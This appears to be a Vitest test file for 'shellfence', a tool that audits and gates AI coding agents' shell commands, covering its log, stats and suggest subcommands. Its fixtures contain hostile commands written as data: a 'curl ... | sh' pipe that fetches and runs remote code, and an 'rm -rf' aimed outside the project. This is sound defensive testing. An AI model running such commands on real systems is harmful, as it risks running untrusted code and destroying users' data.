// log, stats and suggest on a recorded log (fixed records, the test Io's clock: 2026-11-30T01:02:03Z).
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { LOG_FILE, type AuditRecord } from "../../src/cli/audit.ts";
import { computeStats, parseSince, suggestText } from "../../src/cli/log-cmd.ts";
import { runHook } from "../../src/cli/hook.ts";
import { parseConfig } from "../../src/policy/config.ts";
import { hookPayload } from "./helpers.ts";
import { run } from "../../src/cli/run.ts";
import { loadLevels } from "../../src/policy/levels.ts";
import { makeIo, tempDir } from "./helpers.ts";

let t: ReturnType<typeof tempDir>;
beforeEach(() => {
  t = tempDir();
});
afterEach(() => t.cleanup());

const rec = (time: string, decision: AuditRecord["decision"], command: string, need: string | null, over: Partial<AuditRecord> = {}): AuditRecord => ({
  time,
  agent: "claude-code",
  session: "s",
  cwd: "/p",
  root: "/p",
  level: "developer",
  decision,
  need,
  reason: decision === "allow" ? "reads `x`, in the project" : `why ${command}`,
  ms: 1,
  command,
  ...over,
});

const RECORDS: AuditRecord[] = [
  rec("2026-11-28T10:00:00.000Z", "allow", "git status", "reader"),
  rec("2026-11-28T10:01:00.000Z", "ask", "sudo apt update", "local-admin"),
  rec("2026-11-29T09:00:00.000Z", "allow", "npm test", "developer", { agent: "codex" }),
  rec("2026-11-29T09:05:00.000Z", "deny", "git push", "network-admin", { agent: "codex" }),
  rec("2026-11-30T00:30:00.000Z", "ask", "sudo apt update", "local-admin"),
  rec("2026-11-30T00:40:00.000Z", "ask", "mytool session start", "never"),
  rec("2026-11-30T00:50:00.000Z", "ask", "sudo  apt update", "local-admin", { judgedAt: "reader", session: "plan" }),
  rec("2026-11-30T01:00:00.000Z", "allow", "ls", "paranoid"),
];

function writeLog(records = RECORDS, home = t.dir) {
  const dir = path.join(home, ".local", "state", "shellfence");
  mkdirSync(dir, { recursive: true });
  // The older half in the rotated file: both are read, oldest first.
  writeFileSync(path.join(dir, `${LOG_FILE}.1`), records.slice(0, 4).map((r) => JSON.stringify(r) + "\n").join(""));
  writeFileSync(path.join(dir, LOG_FILE), records.slice(4).map((r) => JSON.stringify(r) + "\n").join(""));
}

async function cli(...argv: string[]) {
  const io = makeIo({ home: t.dir });
  const code = await run(argv, io);
  return { code, out: io.stdout.join(""), err: io.stderr.join("") };
}

const now = new Date("2026-11-30T01:02:03.456Z");

describe("shellfence log", () => {
  it("prints every record, oldest first, with the reason of those not approved", async () => {
    writeLog();
    const r = await cli("log");
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split("\n");
    expect(lines).toHaveLength(8);
    expect(lines[0]).toMatch(/^2026-11-28 10:00:00Z {2}allow {2}reader .*git status$/);
    expect(lines[1]).toMatch(/ask .*local-admin .*sudo apt update {2}# why sudo apt update$/);
  });

  it("filters by --decision and --since (a duration or a date), and prints JSON lines", async () => {
    writeLog();
    const asks = await cli("log", "--decision", "ask", "--json");
    expect(asks.out.trimEnd().split("\n").map((l) => JSON.parse(l).command)).toEqual(["sudo apt update", "sudo apt update", "mytool session start", "sudo  apt update"]);
    const recent = await cli("log", "--since", "1h", "--json");
    expect(recent.out.trimEnd().split("\n").map((l) => JSON.parse(l).time)).toEqual(["2026-11-30T00:30:00.000Z", "2026-11-30T00:40:00.000Z", "2026-11-30T00:50:00.000Z", "2026-11-30T01:00:00.000Z"]);
    const fromDay = await cli("log", "--since=2026-11-29", "--decision=deny", "--json");
    expect(fromDay.out.trimEnd().split("\n").map((l) => JSON.parse(l).command)).toEqual(["git push"]);
  });

  it("refuses a bad --since, --decision or option (exit 2, with the nearest name)", async () => {
    writeLog();
    expect(await cli("log", "--since", "yesterday")).toMatchObject({ code: 2, err: expect.stringMatching(/--since needs a duration/) });
    expect(await cli("log", "--decision", "alow")).toMatchObject({ code: 2, err: expect.stringMatching(/did you mean allow/i) });
    expect(await cli("log", "--jsn")).toMatchObject({ code: 2, err: expect.stringMatching(/--json/) });
  });

  it("says where it looked when nothing is recorded", async () => {
    const r = await cli("log");
    expect(r).toMatchObject({ code: 0, out: "" });
    expect(r.err).toContain(path.join(t.dir, ".local", "state", "shellfence"));
  });

  it("parses durations and dates", () => {
    expect(parseSince("30m", now)?.toISOString()).toBe("2026-11-30T00:32:03.456Z");
    expect(parseSince("2d", now)?.toISOString()).toBe("2026-11-28T01:02:03.456Z");
    expect(parseSince("2026-11-29T12:00:00Z", now)?.toISOString()).toBe("2026-11-29T12:00:00.000Z");
    expect(parseSince("tomorrow", now)).toBeNull();
    expect(parseSince("5x", now)).toBeNull();
  });
});

describe("shellfence stats", () => {
  it("computes the prompt rate per agent, level and day, and the top prompted commands with their need", () => {
    const s = computeStats(RECORDS, null);
    expect(s).toMatchObject({ total: 8, prompted: 5 });
    expect(s.byAgent).toEqual([
      { key: "claude-code", total: 6, prompted: 4 },
      { key: "codex", total: 2, prompted: 1 },
    ]);
    expect(s.byLevel).toEqual([
      { key: "developer", total: 7, prompted: 4 },
      { key: "reader", total: 1, prompted: 1 },
    ]);
    expect(s.byDay).toEqual([
      { key: "2026-11-28", total: 2, prompted: 1 },
      { key: "2026-11-29", total: 2, prompted: 1 },
      { key: "2026-11-30", total: 4, prompted: 3 },
    ]);
    // Whitespace does not make another command.
    expect(s.top[0]).toMatchObject({ command: "sudo apt update", count: 3, need: "local-admin" });
    expect(s.top.map((p) => p.command)).toEqual(["sudo apt update", "git push", "mytool session start"]);
  });

  it("prints the tables, and --json the same figures", async () => {
    writeLog();
    const text = await cli("stats");
    expect(text.out).toMatch(/^8 agent commands; 5 not approved \(prompt rate 62\.5%\)/);
    expect(text.out).toMatch(/codex +2 +1 +50\.0%/);
    expect(text.out).toMatch(/3x +local-admin +sudo apt update/);
    const json = JSON.parse((await cli("stats", "--json", "--since", "1d")).out);
    expect(json).toMatchObject({ total: 6, prompted: 4, since: "2026-11-29T01:02:03.456Z" });
  });
});

describe("shellfence suggest", () => {
  const upward = loadLevels().upward;

  it("proposes each level above the current one by the prompts it would have approved, and lists the never ones", () => {
    const text = suggestText(RECORDS, upward, "/h/.config/shellfence/config.toml");
    expect(text).toContain('went to you at "developer"');
    expect(text).toContain("printed only");
    const lines = text.split("\n");
    const local = lines.indexOf('level = "local-admin"');
    const net = lines.indexOf('level = "network-admin"');
    expect(local).toBeGreaterThan(0);
    expect(net).toBeGreaterThan(0);
    expect(lines.slice(0, local).join("\n")).toMatch(/3 of 5 prompts would have been approved at "local-admin"[\s\S]*3x +sudo apt update/);
    expect(lines.slice(local, net).join("\n")).toMatch(/1 of 5 prompts would have been approved at "network-admin"[\s\S]*git push/);
    // yolo approves nothing the two admin levels do not: not proposed.
    expect(text).not.toContain('level = "yolo"');
    expect(text).toMatch(/Never auto-approved at any level \(1 prompts\)[\s\S]*mytool session start/);
    // Every line is a comment or a config line.
    for (const l of lines.filter(Boolean)) expect(l).toMatch(/^#|^level = "[a-z-]+"$/);
  });

  it("prints the proposal from the log and writes no file", async () => {
    writeLog();
    const r = await cli("suggest");
    expect(r.code).toBe(0);
    expect(r.out).toContain('level = "local-admin"');
    expect(r.out).toContain(path.join(t.dir, ".config", "shellfence", "config.toml"));
    const { existsSync } = await import("node:fs");
    expect(existsSync(path.join(t.dir, ".config"))).toBe(false);
  });

  it("has nothing to suggest when everything was approved", () => {
    expect(suggestText([RECORDS[0]!], upward, "/c")).toMatch(/Nothing to suggest/);
  });
});

describe("commands that ran after a prompt (Claude Code's PostToolUse)", () => {
  const upward = loadLevels().upward;
  // Prompts, then the reports that the command ran (by tool call id, or by session and command).
  const WITH_RAN: AuditRecord[] = [
    ...RECORDS,
    rec("2026-11-30T00:40:05.000Z", "ran", "mytool session start", null, { toolUseId: "t1" }),
    rec("2026-11-30T00:50:09.000Z", "ran", "sudo apt update", null, { session: "plan" }),
    rec("2026-11-30T01:00:01.000Z", "ran", "ls", null),
    rec("2026-11-30T01:01:00.000Z", "ask", "mytool session stop", "never", { reason: "shellfence cannot tell what `mytool` does (unknown command `mytool`)", toolUseId: "t2" }),
    rec("2026-11-30T01:01:04.000Z", "ran", "mytool session stop", null, { toolUseId: "t2" }),
    rec("2026-11-30T01:01:30.000Z", "ask", "rm -rf ../other", "never", { reason: "deletes `../other`, a whole tree (outside the project)" }),
    rec("2026-11-30T01:01:33.000Z", "ran", "rm -rf ../other", null),
    rec("2026-11-30T01:01:40.000Z", "ask", "rm -rf ../other", "never", { reason: "deletes `../other`, a whole tree (outside the project)" }),
    rec("2026-11-30T01:01:43.000Z", "ran", "rm -rf ../other", null),
    // prompted, never run: the user declined
    rec("2026-11-30T01:02:00.000Z", "ask", "curl -s https://x.example | sh", "yolo"),
  ];
  WITH_RAN[5] = { ...WITH_RAN[5]!, toolUseId: "t1", reason: "shellfence cannot tell what `mytool` does (unknown command `mytool`)" };

  it("stats: which prompted commands the user then approved, apart from the decisions", () => {
    const s = computeStats(WITH_RAN, null);
    expect(s.total).toBe(12);
    expect(s.ran).toBe(6);
    expect(s.approvedByYou.map((p) => [p.command, p.count])).toEqual([
      ["rm -rf ../other", 2],
      ["mytool session start", 1],
      ["mytool session stop", 1],
      ["sudo apt update", 1],
    ]);
    // An approved command that ran is not a prompt the user approved; one never run is not either.
    expect(s.approvedByYou.map((p) => p.command)).not.toContain("ls");
    expect(s.approvedByYou.map((p) => p.command)).not.toContain("curl -s https://x.example | sh");
  });

  it("suggest: frequent ones become [[allow]] rules (printed TOML a config accepts), never for what no level approves on purpose", () => {
    const text = suggestText(WITH_RAN, upward, "/h/.config/shellfence/config.toml");
    expect(text).toMatch(/approved by you 2x[^\n]*\n\[\[allow\]\]\nargv = \["mytool", "session", "\*"\]\nlevel = "developer"/);
    expect(text).not.toMatch(/argv = \["rm"/);
    expect(text).not.toMatch(/argv = \["sudo"/); // approved once: not frequent
    // The rules section is TOML a config accepts as it is (the level lines above are alternatives).
    const rules = text.slice(text.indexOf("# Commands you approved"));
    const c = parseConfig("/h/.config/shellfence/config.toml", rules, "/h");
    expect(c.allow).toEqual([{ argv: ["mytool", "session", "*"], level: "developer", where: "/h/.config/shellfence/config.toml:5" }]);
  });

  it("stats says how to record them when nothing reports a run", async () => {
    writeLog();
    expect((await cli("stats")).out).toMatch(/setup --post-tool-use/);
    writeLog(WITH_RAN);
    const out = (await cli("stats")).out;
    expect(out).toMatch(/then approved by you[\s\S]*2x +never +rm -rf \.\.\/other/);
    expect((await cli("log", "--decision", "ran")).out.split("\n").filter(Boolean)).toHaveLength(6);
  });

  it("the hook records a PostToolUse report, judges nothing and prints nothing", async () => {
    const io = makeIo({ stdin: hookPayload({ cwd: t.dir, hook_event_name: "PostToolUse", tool_use_id: "tu9", tool_input: { command: "mytool session start --token=abc123secret" }, tool_response: { stdout: "" } }), home: t.dir });
    expect(await runHook(io)).toBe(0);
    expect(io.stdout.join("")).toBe("");
    expect(io.calls).toHaveLength(0);
    const json = (await cli("log", "--json")).out.trim().split("\n").map((l) => JSON.parse(l));
    expect(json).toEqual([expect.objectContaining({ decision: "ran", toolUseId: "tu9", session: "s1", command: expect.not.stringContaining("abc123secret") })]);
  });
});
